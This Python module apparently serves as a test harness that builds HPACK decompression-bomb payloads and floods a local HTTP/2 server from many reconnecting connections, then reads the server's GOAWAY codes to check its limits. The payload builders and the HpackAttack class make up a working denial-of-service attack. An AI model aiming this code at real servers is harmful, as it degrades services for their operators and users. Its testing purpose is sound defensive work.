"""HPACK bombs: peers whose header blocks are small on the wire and large when decompressed.

Any number of connections send as fast as the server reads, and reconnect when they are closed, for
a bounded time.
"""

import selectors
import socket
import time

from h2raw import (CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, LOOKUP_STREAM, PREFACE,
                   RST_STREAM, SETTINGS, call_fields, frame, header_encode)

FRAME_BYTES = 16384
LARGE_BYTES = 4000   # size of a value in HPACK's dynamic table, which has room for 4 096 bytes
NEWEST = b'\xbe'     # refers to the newest entry of that table
METHOD_POST = b'\x83'
ENTRY = b'\x40\x06x-bomb\x7f\xa1\x1e'  # adds an entry: its name, and 4 000 bytes follow
DATA_BYTES = 4 << 20  # sent on a connection, unless closed earlier, before it reconnects
BLOCK_REFERENCES = 60000
STREAMS_MAX = 256    # the server's limit on concurrent streams
SEND_BYTES = 65536
WAIT_SECONDS = 0.05


def block_frames(stream, block, flags=0):
    """Returns the HEADERS and CONTINUATION frames of a block."""
    pieces = [block[at:at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
    kinds = [HEADERS] + [CONTINUATION] * (len(pieces) - 1)
    ends = [0] * (len(pieces) - 1) + [END_HEADERS]
    return b''.join(frame(kind, end | (flags if kind == HEADERS else 0), stream, piece)
                    for kind, end, piece in zip(kinds, ends, pieces))


def greeting(last=b'a', path=None, ends=True):
    """Returns the first bytes of a connection, with a call whose header block fills the table."""
    fields = call_fields(path) if path else call_fields()
    block = header_encode(fields) + ENTRY + b'a' * (LARGE_BYTES - 1) + last
    return (PREFACE + frame(SETTINGS, 0, 0)
            + block_frames(1, block, END_STREAM if ends else 0))


def repeat(call, first=3):
    """Returns calls on successive streams. `call` returns the bytes of a call on a stream."""
    count = DATA_BYTES // len(call(first)) + 1
    return b''.join(call(stream) for stream in range(first, first + 2 * count, 2))


def calls_of(extra):
    """Returns calls whose header blocks end with `extra`."""
    block = header_encode(call_fields()) + extra
    return repeat(lambda stream: block_frames(stream, block, END_STREAM))


def resets_of(extra):
    """Returns calls whose header blocks end with `extra`, each reset at once."""
    block = header_encode(call_fields()) + extra
    return repeat(lambda stream: block_frames(stream, block)
                  + frame(RST_STREAM, 0, stream, b'\0\0\0\x08'))


def trailers(extra):
    """Returns calls that end with trailers of the bytes in `extra`."""
    head = header_encode(call_fields(LOOKUP_STREAM))
    return repeat(lambda stream: block_frames(stream, head)
                  + block_frames(stream, extra, END_STREAM))


def refused():
    """Returns header blocks of streams that the server refuses because too many are open."""
    head = header_encode(call_fields(LOOKUP_STREAM))
    open_calls = b''.join(block_frames(stream, head) for stream in range(3, 2 * STREAMS_MAX, 2))
    large = head + METHOD_POST * 12000
    return open_calls + repeat(lambda stream: block_frames(stream, large), 2 * STREAMS_MAX + 1)


def plain():
    """Returns the bytes of a connection whose header blocks are as large on the wire as decoded.

    Its cost is the baseline for the attacks.
    """
    return greeting() + calls_of(header_encode([('x-large', 'a' * LARGE_BYTES)] * 3))


def attacks():
    """Returns the bytes that each kind of attacker sends, by its name."""
    return {
        'calls': greeting() + calls_of(NEWEST * BLOCK_REFERENCES),
        'trailers': greeting(path=LOOKUP_STREAM, ends=False) + trailers(NEWEST * BLOCK_REFERENCES),
        'invalid fields': greeting(last=b'\x01') + calls_of(NEWEST * BLOCK_REFERENCES),
        'within the limit': greeting() + calls_of(NEWEST * 3),
        'past the limit': greeting() + calls_of(NEWEST * 12),
        'reset': greeting() + resets_of(NEWEST * 3),
        'refused streams': greeting() + refused(),
    }


def send_some(peer, data):
    """Sends some of the data, a memoryview. Returns the rest: empty once the connection is over."""
    try:
        return data[peer.send(data[:SEND_BYTES]):]
    except BlockingIOError:
        return data
    except ConnectionError:
        return b''


def receive_some(peer):
    """Returns received bytes: empty if the connection is over, None if there are none yet."""
    try:
        return peer.recv(SEND_BYTES)
    except BlockingIOError:
        return None
    except ConnectionError:
        return b''


def ending(port, data, seconds):
    """Sends as much of the data as the server takes, and reads until the server closes.

    Returns the error code of the server's GOAWAY, or None without a GOAWAY. Raises TimeoutError if
    the server does not close within `seconds`.
    """
    deadline = time.monotonic() + seconds
    received, more = b'', None
    data = memoryview(data)
    with socket.create_connection(('127.0.0.1', port)) as peer, \
            selectors.DefaultSelector() as selector:
        peer.setblocking(False)
        selector.register(peer, selectors.EVENT_READ | selectors.EVENT_WRITE)
        while more != b'':
            if time.monotonic() > deadline:
                raise TimeoutError('the server did not close')
            selector.select(WAIT_SECONDS)
            more = receive_some(peer)
            received += more or b''
            if data:
                data = send_some(peer, data)
            else:
                selector.modify(peer, selectors.EVENT_READ)
    return goaway_code(received)


def goaway_code(received):
    """Returns the error code of the last GOAWAY in the received frames, or None."""
    at, code = 0, None
    while at + 9 <= len(received):
        end = at + 9 + int.from_bytes(received[at:at + 3], 'big')
        if received[at + 3] == GOAWAY:
            code = int.from_bytes(received[at + 13:at + 17], 'big')
        at = end
    return code


class HpackAttack:
    """A number of connections, all of which send `data`."""

    def __init__(self, port, data, connections):
        self.port = port
        self.data = data
        self.sent_bytes = 0
        self.ended = 0   # connections that the server has ended
        self.whole = 0   # connections that have sent all
        self.selector = selectors.DefaultSelector()
        for _ in range(connections):
            self._connect()

    def _connect(self):
        peer = socket.socket()
        peer.setblocking(False)
        peer.connect_ex(('127.0.0.1', self.port))
        self.selector.register(peer, selectors.EVENT_READ | selectors.EVENT_WRITE, [0])

    def _again(self, peer):
        self.selector.unregister(peer)
        peer.close()
        self._connect()

    def _serve(self, key, events):
        """Sends and reads once. Returns False if the connection is over."""
        if events & selectors.EVENT_READ and not key.fileobj.recv(SEND_BYTES):
            return False
        if events & selectors.EVENT_WRITE:
            at, = key.data
            count = key.fileobj.send(self.data[at:at + SEND_BYTES])
            self.sent_bytes += count
            key.data[0] += count
        return True

    def run(self, seconds, connections=None):
        """Attacks until the time is over, or until `connections` connections have ended."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and (
                connections is None or self.ended + self.whole < connections):
            for key, events in self.selector.select(WAIT_SECONDS):
                self._step(key, events)

    def _step(self, key, events):
        try:
            alive = self._serve(key, events)
        except BlockingIOError:
            return
        except OSError:
            alive = False
        is_whole = key.data[0] == len(self.data)
        self.ended += not alive
        self.whole += alive and is_whole
        if not alive or is_whole:
            self._again(key.fileobj)

    def close(self):
        """Closes all connections."""
        for key in list(self.selector.get_map().values()):
            key.fileobj.close()
        self.selector.close()
